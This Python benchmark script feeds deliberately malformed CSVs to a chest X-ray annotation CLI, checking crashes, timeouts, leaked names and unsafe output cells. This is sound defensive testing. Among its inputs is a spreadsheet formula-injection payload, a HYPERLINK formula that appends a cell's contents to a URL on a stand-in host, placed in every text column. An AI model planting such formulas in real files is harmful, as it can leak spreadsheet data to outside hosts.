"""hostile11: hostile annotation and prediction CSVs through `vindr split` and `vindr evaluate`.

Each case is sample_dicoms' VinDr-CXR annotations changed one way (missing columns, BOM, CRLF,
NUL bytes, bytes that are not UTF-8, a 20 MB field, quotes never closed, NaN / inf / negative /
1e308 coordinates, boxes outside the image, unknown classes, duplicate rows, formula strings
such as =HYPERLINK in every text column, a planted name in every text column). Every run is the
CLI in a child with a time limit; recorded: exit code, time, whether stderr/stdout held a
traceback or the planted name, and whether a written CSV starts a cell with = + - @.

    python bench/hostile11_csv.py [--only SUBSTR] [--json bench/results/hostile11_csv.json]
"""
from __future__ import annotations

import argparse
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "bench"))
from bench_io import write_cases  # noqa: E402
SAMPLE = REPO / "sample_dicoms" / "annotations" / "vindr_cxr_annotations.csv"
NAME = "Nguyen Van Planted"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
HEADER = ["image_id", "class_name", "class_id", "rad_id", "x_min", "y_min", "x_max", "y_max"]


def base_rows() -> list[list[str]]:
    with SAMPLE.open(newline="") as f:
        rows = list(csv.reader(f))
    return rows[1:]


def text(rows, header=HEADER, newline="\n") -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def boxed(rows):
    return [r for r in rows if r[4]]


def with_col(rows, col: int, value: str, every: int = 3):
    out = [list(r) for r in rows]
    for i in range(0, len(out), every):
        out[i][col] = value
    return out


def cases() -> list[tuple[str, bytes]]:
    rows = base_rows()
    b = boxed(rows)
    C = [("good", text(rows)),
         ("empty file", b""),
         ("header only", text([])),
         ("BOM only", b"\xef\xbb\xbf"),
         ("BOM + CRLF", b"\xef\xbb\xbf" + text(rows, newline="\r\n")),
         ("CR only line ends", text(rows, newline="\r")),
         ("missing x_max column", text([r[:7] for r in rows], HEADER[:7])),
         ("missing image_id column", text([r[1:] for r in rows], HEADER[1:])),
         ("duplicate header column", text([r + [r[4]] for r in rows], HEADER + ["x_min"])),
         ("extra fields on rows", text([r + ["x", "y"] for r in rows])),
         ("short rows", text([r[:3] for r in rows])),
         ("NUL bytes", text(rows).replace(b"R1", b"R\x001")),
         ("not UTF-8", text(rows).replace(b"R2", b"R\xff\xfe")),
         ("UTF-16", "\n".join([",".join(HEADER)] + [",".join(r) for r in rows]).encode("utf-16")),
         ("quote never closed", text(rows) + b'"abc,1,2\n'),
         ("20 MB field", text(rows[:3] + [[rows[0][0], "A" * 20_000_000] + rows[0][2:]])),
         ("100,000 columns", text(rows[:2], HEADER + [f"c{i}" for i in range(100_000)])),
         ("NaN coordinates", text(with_col(b, 4, "NaN"))),
         ("inf coordinates", text(with_col(b, 6, "inf"))),
         ("negative coordinates", text(with_col(b, 5, "-50"))),
         ("1e308 coordinates", text(with_col(b, 7, "1e308"))),
         ("-1e308 coordinates", text(with_col(b, 4, "-1e308"))),
         ("box outside the image", text(with_col(with_col(b, 4, "100000"), 6, "100010"))),
         ("inverted box", text(with_col(b, 4, "300"))),
         ("hex float", text(with_col(b, 4, "0x1p3"))),
         ("unknown class", text(with_col(rows, 1, "Dragon"))),
         ("class_id 1e9", text(with_col(rows, 2, "1e9"))),
         ("class_id -1", text(with_col(rows, 2, "-1"))),
         ("duplicate rows", text(rows + rows)),
         ("formula in rad_id", text(with_col(rows, 3, FORMULA, 1))),
         ("formula in class_name", text(with_col(rows, 1, FORMULA))),
         ("formula in image_id", text(with_col(rows, 0, FORMULA))),
         ("formula in coordinate", text(with_col(b, 4, "=1+2"))),
         ("name in rad_id", text(with_col(rows, 3, NAME, 1))),
         ("name in class_name", text(with_col(rows, 1, NAME))),
         ("name in image_id", text(with_col(rows, 0, NAME))),
         ("name in a column header", text(rows, HEADER[:-1] + [NAME])),
         ("name in coordinate", text(with_col(b, 4, NAME))),
         ("newline in a value", text(with_col(rows, 3, "R1\nR2"))),
         ("ANSI escape in a value", text(with_col(rows, 1, "\x1b[31mred\x1b[0m"))),
         ("200,000 rows", text(rows * (200_000 // len(rows)))),
         ]
    return C


def kaggle_cases(gt_rows) -> list[tuple[str, bytes]]:
    ids = sorted({r[0] for r in gt_rows})

    def sub(strings):
        return text([[i, s] for i, s in zip(ids, strings)], ["image_id", "PredictionString"])
    n = len(ids)
    return [("pred: good", sub(["14 1 0 0 1 1"] * n)),
            ("pred: 5 tokens", sub(["0 0.5 1 2 3"] * n)),
            ("pred: NaN score", sub(["0 nan 1 2 3 4"] * n)),
            ("pred: inf box", sub(["0 0.5 1 2 inf 4"] * n)),
            ("pred: score 1e308", sub(["0 1e308 1 2 3 4"] * n)),
            ("pred: class 99", sub(["99 0.5 1 2 3 4"] * n)),
            ("pred: class -1", sub(["-1 0.5 1 2 3 4"] * n)),
            ("pred: class 1.5", sub(["1.5 0.5 1 2 3 4"] * n)),
            ("pred: words", sub([NAME] * n)),
            ("pred: formula", sub([FORMULA] * n)),
            ("pred: empty", sub([""] * n)),
            ("pred: 100,000 boxes an image", sub([" ".join(["0 0.5 1 2 3 4"] * 100_000)] * 2)),
            ("pred: unknown image ids", text([[NAME, "0 0.5 1 2 3 4"]], ["image_id", "PredictionString"])),
            ("pred: duplicate image ids", sub(["0 0.5 1 2 3 4"] * n) + b"\n".join(
                f"{i},0 0.5 1 2 3 4".encode() for i in ids) + b"\n"),
            ]


def meta(rows) -> bytes:
    ids = sorted({r[0] for r in rows})
    return text([[i, f"s{k // 2}", f"p{k // 3}", "512", "512"] for k, i in enumerate(ids)],
                 ["image_id", "study_id", "patient_id", "rows", "columns"])


def run(args, timeout=300) -> dict:
    env = {**os.environ, "COLUMNS": "120"}
    t0 = time.time()
    try:
        p = subprocess.run([sys.executable, "-m", "vindr_cli", *map(str, args)], capture_output=True, timeout=timeout,
                           env=env)
    except subprocess.TimeoutExpired:
        return {"rc": "TIMEOUT", "wall_s": timeout}
    out = p.stdout.decode("utf-8", "replace") + p.stderr.decode("utf-8", "replace")
    return {"rc": p.returncode, "wall_s": round(time.time() - t0, 1), "traceback": "Traceback" in out,
            "name_printed": NAME in out or "Planted" in out, "formula_printed": "HYPERLINK" in out,
            "last_line": out.strip().splitlines()[-1][:160] if out.strip() else ""}


def formula_cells(folder: Path) -> list[str]:
    bad = []
    for p in folder.rglob("*.csv"):
        with p.open(newline="", encoding="utf-8", errors="replace") as f:
            for row in csv.reader(f):
                if any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c)) for c in row):
                    bad.append(p.name)
                    break
        for needle in (NAME, "Planted"):
            if needle in p.read_text(errors="replace"):
                bad.append(p.name + ": name")
    return bad


def _number(c: str) -> bool:
    try:
        float(c)
        return True
    except ValueError:
        return False


def main(argv=None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", default=None)
    ap.add_argument("--json", default=None)
    a = ap.parse_args(argv)
    load0 = os.getloadavg()[0]
    rows = base_rows()
    results = []
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        (tmp / "meta.csv").write_bytes(meta(rows))
        (tmp / "gt.csv").write_bytes(text(rows))
        (tmp / "pred.csv").write_bytes(kaggle_cases(rows)[0][1])
        for label, data in cases() + kaggle_cases(rows):
            if a.only and a.only not in label:
                continue
            f = tmp / "case.csv"
            f.write_bytes(data)
            rec = {"case": label}
            if not label.startswith("pred:"):
                out = tmp / f"split_{len(results)}"
                rec["split"] = run(["split", f, "--meta", tmp / "meta.csv", "--test-size", "0.3", "--unit", "patients",
                                    "-o", out])
                rec["split"]["written"] = formula_cells(out) if out.exists() else []
                rec["evaluate_gt"] = run(["evaluate", "--gt", f, "--pred", tmp / "pred.csv"])
            rec["evaluate_pred"] = run(["evaluate", "--gt", tmp / "gt.csv", "--pred", f])
            results.append(rec)
            print(json.dumps(rec), flush=True)
    if a.json:
        write_cases(a.json, results, load0)
    return 0


if __name__ == "__main__":
    sys.exit(main())
